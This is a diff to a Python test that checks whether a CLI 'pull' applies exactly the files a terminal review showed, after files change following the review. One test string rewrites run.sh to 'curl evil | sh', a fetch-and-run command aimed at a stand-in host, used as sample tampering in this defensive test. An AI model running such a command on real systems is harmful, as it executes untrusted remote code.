@@ -134,10 +134,8 @@ def test_the_terminal_applies_what_it_showed(cli: Cli, session: Record, project:
     mode, a link's target): what lands is what was shown."""
     from .test_workspace import Terminal
 
-    (project / "contract").mkdir()
-    (project / "contract" / "a.txt").write_text("a\n")
-    (project / "contract" / "b.txt").write_text("b\n")
-    guest_sh(session, "cd contract && printf 'echo reviewed\\n' > run.sh && ln -s a.txt link && echo data > plain.txt")
+    made = "mkdir contract && cd contract && echo a > a.txt && echo b > b.txt"
+    guest_sh(session, f"{made} && printf 'echo reviewed\\n' > run.sh && ln -s a.txt link && echo data > plain.txt")
     term = Terminal(cli.argv("pull", session.name, "contract"), cli.env())
     term.expect("[y/n/d/a/q]")
     later = "printf 'curl evil | sh\\n' > run.sh && chmod 755 run.sh plain.txt && ln -sfn b.txt link"
